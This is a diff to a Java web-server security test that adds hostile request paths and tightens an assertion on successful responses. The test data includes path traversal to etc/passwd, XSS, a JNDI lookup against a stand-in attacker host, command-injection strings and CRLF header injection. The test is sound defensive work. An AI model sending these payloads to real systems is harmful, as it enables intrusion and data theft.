@@ -356,6 +356,7 @@ class SafetyTest {
       paths.add("/" + up.repeat(6) + "etc/passwd");
       paths.add("/lib/" + up.repeat(6) + "etc/passwd");
       paths.add("/api/v1/experiments/" + up + "secret.txt");
+      paths.add("/api/v1/papers/" + up + "secret.txt/report");
       paths.add("/lib/lit/3.3.2/" + up.repeat(3) + "secret.txt");
     }
     paths.addAll(
@@ -379,6 +380,10 @@ class SafetyTest {
             "/api/v1/searches/%3Cimg%20src=x%20onerror=alert(1)%3E",
             "/api/v1/searches/${jndi:ldap://evil.example/a}",
             "/api/v1/searches/%24%7B7*7%7D",
+            "/api/v1/searches/%",
+            "/api/v1/searches/%zz",
+            "/api/v1/experiments/%u0041/games/1",
+            "/?q=%",
             "/api/v1/searches/$(id)",
             "/api/v1/searches/;id;",
             "/api/v1/searches/x%0d%0aSet-Cookie:%20a=b",
@@ -402,7 +407,7 @@ class SafetyTest {
 
     assertThat(Wire.status(answer)).isIn(200, 400, 404, 414, 431);
     if (Wire.status(answer) == 200) {
-      assertThat(path).startsWith("/?q=");
+      assertThat(path).startsWith("/?q=%0d");
     }
     assertThat(answer)
         .doesNotContain(
